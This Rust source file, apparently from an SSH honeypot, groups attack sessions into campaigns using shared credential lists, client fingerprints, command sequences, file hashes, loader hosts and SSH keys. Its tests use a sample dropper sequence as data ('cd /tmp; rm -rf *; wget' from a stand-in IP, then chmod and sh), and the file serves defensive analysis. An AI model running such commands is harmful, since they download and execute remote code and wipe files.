//! Campaigns: what sessions share, and the rule that joins them. Pure; the reading and writing is in `history`.

use base::Realm;
use uuid::Uuid;

use crate::minhash::Signature;
use crate::net::named_id;
use crate::shell::normal_words;
use crate::sketch::clean;
use crate::summary::Summary;

/// Lists of fewer pairs are everybody's first guess.
const FEWEST_PAIRS: u64 = 3;
/// With the same client fingerprint two pairs are enough.
const FEWEST_PAIRS_OF_CLIENT: u64 = 2;

/// What kind of thing is shared.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum KeyKind {
    /// The same list of credentials.
    Credentials,
    /// The same list, shorter, by a client with the same HASSH.
    Client,
    /// The same sequence of commands.
    Commands,
    /// The same file.
    File,
    /// A file from the same host.
    Host,
    /// The same SSH key.
    SshKey,
}

impl KeyKind {
    /// The stable name.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Credentials => "credentials",
            Self::Client => "client",
            Self::Commands => "commands",
            Self::File => "file",
            Self::Host => "host",
            Self::SshKey => "key",
        }
    }
}

/// One thing a session may share with others.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Key {
    /// Made from realm, kind and value.
    pub id: Uuid,
    /// What kind.
    pub kind: KeyKind,
    /// A few words for people.
    pub label: String,
    /// The signature, where it is a sequence of commands.
    pub signature: Option<Signature>,
}

impl Key {
    fn new(realm: Realm, kind: KeyKind, value: &[u8], label: &str) -> Self {
        let id = named_id(&[realm.to_string().as_bytes(), kind.word().as_bytes(), value]);
        Self { id, kind, label: clean(label, 200), signature: None }
    }
}

/// The id of a band of a signature.
#[must_use]
pub fn band_id(realm: Realm, band: u64) -> Uuid {
    named_id(&[realm.to_string().as_bytes(), b"band", &band.to_be_bytes()])
}

/// What a session may share. Lists and sequences are known only when the session is complete: the first half of a list is
/// not a list.
#[must_use]
pub fn keys_of(realm: Realm, summary: &Summary, complete: bool) -> Vec<Key> {
    let mut keys = Vec::new();
    if summary.udp {
        return keys;
    }
    keys.extend(summary.hashes.iter().map(|sha| Key::new(realm, KeyKind::File, sha.as_bytes(), sha)));
    let hosts = summary.urls.iter().filter_map(loader_host);
    keys.extend(hosts.map(|host| Key::new(realm, KeyKind::Host, host.as_bytes(), &host)));
    keys.extend(summary.keys.iter().map(|key| Key::new(realm, KeyKind::SshKey, key.as_bytes(), key)));
    if complete {
        keys.extend(credential_keys(realm, summary));
        keys.extend(command_key(realm, summary));
    }
    keys.sort_by_key(|key| key.id);
    keys.dedup_by_key(|key| key.id);
    keys
}

fn credential_keys(realm: Realm, summary: &Summary) -> Option<Key> {
    let list = summary.credential_list()?;
    let pairs = summary.pairs.count();
    let first = summary.first_users.first().unwrap_or_default();
    let password = summary.first_passwords.first().unwrap_or_default();
    let label = format!("{pairs} pairs, first {first}:{password}");
    if pairs >= FEWEST_PAIRS {
        return Some(Key::new(realm, KeyKind::Credentials, &list, &label));
    }
    let hassh = summary.hassh.first().filter(|_| pairs >= FEWEST_PAIRS_OF_CLIENT)?;
    let value = [hassh.as_bytes(), &list].concat();
    Some(Key::new(realm, KeyKind::Client, &value, &format!("{label}, HASSH {hassh}")))
}

fn command_key(realm: Realm, summary: &Summary) -> Option<Key> {
    let words = normal_words(summary.lines.texts());
    let signature = Signature::of(&words)?;
    let label = words.iter().map(|word| if word == "\n" { ";" } else { word }).collect::<Vec<_>>().join(" ");
    let value = words.join("\u{1f}");
    let key = Key::new(realm, KeyKind::Commands, value.as_bytes(), label.trim_end_matches(" ;"));
    Some(Key { signature: Some(signature), ..key })
}

/// The host a file was wanted from, where its operator is likely the attacker: an address, or a name that is not one of the
/// large public places where anybody puts files.
fn loader_host(url: &str) -> Option<String> {
    const PUBLIC: &[&str] = &[
        "github.com",
        "githubusercontent.com",
        "gitlab.com",
        "bitbucket.org",
        "pastebin.com",
        "transfer.sh",
        "google.com",
        "googleapis.com",
        "amazonaws.com",
        "cloudfront.net",
        "dropbox.com",
        "discordapp.com",
        "telegram.org",
        "ipinfo.io",
        "ifconfig.me",
        "icanhazip.com",
        "ip-api.com",
        "debian.org",
        "ubuntu.com",
        "python.org",
        "npmjs.org",
    ];
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.to_ascii_lowercase();
    let bare = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?.to_owned(),
        None => host.split(':').next()?.to_owned(),
    };
    let public =
        PUBLIC.iter().any(|name| bare == *name || bare.strip_suffix(name).is_some_and(|sub| sub.ends_with('.')));
    (!bare.is_empty() && !public).then_some(bare)
}

#[cfg(test)]
mod tests {
    use super::*;
    use logwire::attack::{AttackEvent, AuthMethod, Transport, What};

    fn summary(whats: Vec<What>) -> Summary {
        let mut summary = Summary::default();
        for (second, what) in whats.into_iter().enumerate() {
            let at = base::Timestamp::from_micros(1_795_240_800_000_000 + second as i64 * 1_000_000);
            let event = AttackEvent {
                at,
                session: "s".into(),
                src_ip: "203.0.113.7".parse().unwrap(),
                src_port: 1,
                dst_ip: None,
                dst_port: 22,
                protocol: "ssh".into(),
                transport: Transport::Tcp,
                what,
            };
            summary.apply(&event, at);
        }
        summary
    }

    fn tried(pairs: &[(&str, &str)]) -> Vec<What> {
        pairs
            .iter()
            .map(|(user, password)| What::Auth {
                user: (*user).into(),
                password: (*password).into(),
                method: AuthMethod::Password,
                key: None,
                success: false,
            })
            .collect()
    }

    fn kinds(summary: &Summary, complete: bool) -> Vec<&'static str> {
        let mut kinds: Vec<_> = keys_of(Realm::Real, summary, complete).iter().map(|key| key.kind.word()).collect();
        kinds.sort_unstable();
        kinds
    }

    #[test]
    fn a_list_counts_when_it_is_long_enough_and_complete() {
        let long = summary(tried(&[("root", "a"), ("root", "b"), ("admin", "c")]));
        assert_eq!(kinds(&long, true), ["credentials"]);
        assert!(kinds(&long, false).is_empty());
        let mut short = tried(&[("root", "a"), ("root", "b")]);
        assert!(kinds(&summary(short.clone()), true).is_empty());
        short.push(What::Fingerprint { version: String::new(), hassh: Some("0".repeat(32)) });
        assert_eq!(kinds(&summary(short), true), ["client"]);
        let turned = summary(tried(&[("admin", "c"), ("root", "b"), ("root", "a")]));
        assert_eq!(turned.credential_list(), long.credential_list());
    }

    #[test]
    fn hosts_and_commands() {
        let lines = ["cd /tmp; rm -rf *; wget http://198.51.100.9:8080/a.sh", "chmod 777 a.sh; sh a.sh; rm a.sh"];
        let loader = summary(lines.iter().map(|line| What::Command { line: (*line).into() }).collect());
        assert_eq!(kinds(&loader, true), ["commands", "host"]);
        assert_eq!(kinds(&loader, false), ["host"]);
        let host = |url| loader_host(url);
        assert_eq!(host("http://[2001:db8::1]:80/x").as_deref(), Some("2001:db8::1"));
        assert_eq!(host("http://user@Evil.example/x").as_deref(), Some("evil.example"));
        assert_eq!(host("https://raw.githubusercontent.com/x"), None);
        assert_eq!(host("https://notgithub.com/x").as_deref(), Some("notgithub.com"));
        assert_eq!(host("nonsense"), None);
    }
}
